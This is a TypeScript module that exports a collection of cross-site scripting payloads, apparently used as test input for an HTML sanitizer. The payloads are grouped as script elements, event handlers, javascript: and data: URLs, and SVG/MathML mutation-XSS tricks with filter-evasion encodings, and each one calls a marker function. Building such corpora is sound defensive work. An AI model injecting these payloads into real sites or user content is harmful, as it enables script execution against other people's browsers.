// Payloads by the classes of OWASP's cheat sheets (XSS filter evasion, DOM clobbering, mutation
// XSS): each calls xss() when it runs.
const ran = 'xss()';

/** Elements that run something by being there. */
const elements = [
  `<script>${ran}</script>`,
  `<script src="data:text/javascript,${ran}"></script>`,
  `<ScRiPt>${ran}</sCrIpT>`,
  `<script/x>${ran}</script>`,
  `<scr<script>ipt>${ran}</scr</script>ipt>`,
  `<iframe srcdoc="<script>parent.${ran}</script>"></iframe>`,
  `<iframe src="javascript:parent.${ran}"></iframe>`,
  `<object data="javascript:${ran}"></object>`,
  `<embed src="javascript:${ran}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${ran}">`,
  `<base href="javascript:${ran}//">`,
  `<link rel="stylesheet" href="data:text/css,*{background:url(javascript:${ran})}">`,
  `<template><script>${ran}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${ran}>"></noscript>`,
];

/** Handlers of events. */
const handlers = [
  `<img src=x onerror=${ran}>`,
  `<img src=x onerror="&#120;&#115;&#115;&#40;&#41;">`,
  `<img/src=x/onerror=${ran}>`,
  `<img src=x OnErRoR=${ran}>`,
  `<img src="x\`\`onerror=${ran}">`,
  `<IMG """><SCRIPT>${ran}</SCRIPT>">`,
  `<svg onload=${ran}>`,
  `<svg/onload=${ran}//`,
  `<body onload=${ran}>`,
  `<video><source onerror=${ran}></video>`,
  `<audio src=x onerror=${ran}></audio>`,
  `<details open ontoggle=${ran}>x</details>`,
  `<input autofocus onfocus=${ran}>`,
  `<select autofocus onfocus=${ran}></select>`,
  `<p onmouseover=${ran}>x</p>`,
  `<p style="animation:x" onanimationstart=${ran}>x</p>`,
  `<marquee onstart=${ran}>x</marquee>`,
];

/** URLs that are programs. */
const urls = [
  `<a href="javascript:${ran}">x</a>`,
  `<a href="JaVaScRiPt:${ran}">x</a>`,
  `<a href="java&#x09;script:${ran}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${ran}">x</a>`,
  `<a href=" &#14; javascript:${ran}">x</a>`,
  `<a href="vbscript:${ran}">x</a>`,
  `<a href="data:text/html,<script>${ran}</script>">x</a>`,
  `<form action="javascript:${ran}"><button>x</button></form>`,
  `<button formaction="javascript:${ran}">x</button>`,
];

/** Other languages inside HTML, and what parsers make of them the second time. */
const mutations = [
  `<svg><script>${ran}</script></svg>`,
  `<svg><a xlink:href="javascript:${ran}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${ran} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${ran} />`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${ran}>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${ran}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${ran}></style></svg>`,
  `<math href="javascript:${ran}">x</math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ran}&gt;">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${ran}></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ran}>`,
  `<!--><img src=x onerror=${ran}>-->`,
  `<![CDATA[><img src=x onerror=${ran}>]]>`,
  `<form id=body><input name=attributes></form>`,
  `"><script>${ran}</script>`,
  `'-${ran}-'`,
  `\${${ran}}{{${ran}}}`,
  `$\\href{javascript:${ran}}{x}$`,
  `$\\includegraphics{javascript:${ran}}$`,
];

export const payloads: readonly string[] = [...elements, ...handlers, ...urls, ...mutations];
